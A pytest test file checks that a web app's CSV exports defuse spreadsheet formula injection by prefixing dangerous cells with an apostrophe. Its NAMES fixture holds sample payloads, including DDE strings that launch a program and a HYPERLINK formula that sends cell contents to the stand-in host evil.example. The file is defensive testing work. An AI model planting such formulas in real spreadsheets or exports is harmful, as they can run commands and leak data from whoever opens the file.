"""CSV exports neutralise formula injection, end to end: names and comments that a spreadsheet
would run as formulas arrive through the import and leave every export as plain text.

OWASP "CSV injection": a cell starting with =, +, -, @, tab or carriage return is a formula in
Excel, LibreOffice and Sheets; the exports prefix such text with an apostrophe.
"""

import csv
import io
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from accounts.models import Account
from core.exports import csv_cell
from metrics.services import snapshot_recompute

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NAMES = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
]


@given(st.text())
def test_no_text_leaves_either_export_starting_with_a_formula_character(text):
    for cell in (csv_cell(text),):  # the one cell rule of every export
        assert not str(cell).startswith(DANGEROUS)
        assert str(cell).removeprefix("'") == text or str(cell) == text


@pytest.fixture
def imported(csv_dir, write_csv, run_import, alice):
    rows = "\n".join(
        f'A{i},"{name.replace(chr(34), chr(34) * 2)}",alice@northstar.example'
        for i, name in enumerate(NAMES)
    )
    write_csv(csv_dir, "accounts.csv", f"external_id,name,owner_email\n{rows}\n")
    contracts = "\n".join(f"K{i},A{i},2024-01-01,100" for i in range(len(NAMES)))
    write_csv(
        csv_dir, "contracts.csv", f"external_id,account_external_id,start_date,mrr\n{contracts}\n"
    )
    run = run_import(csv_dir)
    assert run.error is None, run.stderr
    snapshot_recompute(as_of=date(2024, 3, 31))
    # As stored: the import trims the tab and carriage return around a cell.
    stored = sorted(Account.objects.values_list("name", flat=True))
    assert all(name.startswith(DANGEROUS) for name in stored)
    return stored


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body, newline="")))


def test_formula_names_from_an_import_leave_the_accounts_export_as_text(client, alice, imported):
    client.force_login(alice)

    rows = read_csv(client.get("/accounts/export.csv"))

    names = sorted(row[1] for row in rows[1:])
    assert names == [f"'{name}" for name in imported]


def test_formula_names_leave_the_portfolio_drill_export_as_text(client, alice, imported):
    client.force_login(alice)

    rows = read_csv(client.get("/portfolio/drill/mrr/", {"format": "csv"}))

    cells = [cell for row in rows[1:] for cell in row]
    assert sorted(c for c in cells if c[1:] in imported) == [f"'{name}" for name in imported]
    assert not [c for c in cells if c.startswith(DANGEROUS)]
